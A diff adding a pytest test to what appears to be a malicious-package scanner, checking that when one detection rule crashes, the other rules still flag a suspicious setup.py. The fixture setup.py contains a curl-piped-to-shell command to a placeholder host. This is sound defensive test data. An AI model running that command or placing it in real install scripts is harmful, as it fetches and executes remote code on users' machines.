@@ -377,6 +377,39 @@ def test_skipped_files_are_listed_with_their_reason(
     assert any(f.rule == "PY-INSTALL-PROCESS" and f.file == "demo-1.0/setup.py" for f in findings)
 
 
+def test_a_rule_that_raises_loses_only_its_own_findings(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A construct built to crash one rule must not blind the others on that file."""
+    from package_analysis.analysis.rules import catalog, py_process
+
+    def crash(check: object) -> None:
+        raise IndexError("built to crash this rule")
+
+    monkeypatch.setattr(py_process, "check_python", crash)
+    catalog.checks.cache_clear()
+    try:
+        tail = "import os, base64\nos.system('curl -s http://" + HOST + "/x | sh')\n"
+        root = _tree(tmp_path, {"demo-1.0/setup.py": SETUP_HEAD + tail})
+        skipped: list[dict[str, str]] = []
+        findings = engine.scan_tree(
+            root,
+            ecosystem="pypi",
+            package=PackageRef("pypi", "demo-widget", "1.0.0", ""),
+            artifact_sha256=SHA,
+            skipped=skipped,
+        )
+    finally:
+        catalog.checks.cache_clear()
+    rules = {f.rule for f in findings if f.file == "demo-1.0/setup.py"}
+    assert "PY-INSTALL-PROCESS" not in rules  # the crashed rule's own finding is gone
+    assert "PY-INSTALL-HOOK-EXEC" in rules or "CNT-DOWNLOAD-EXEC" in rules, rules
+    assert {
+        "file": "demo-1.0/setup.py",
+        "reason": "partly scanned: py_process failed (IndexError)",
+    } in skipped
+
+
 def test_nul_bytes_boms_cookies_and_fullwidth_names_do_not_hide_code(tmp_path: Path) -> None:
     files: dict[str, str | bytes] = {
         "demo-1.0/demo/__init__.py": b"# \x00\nimport os\nos.system('echo hi')\n",
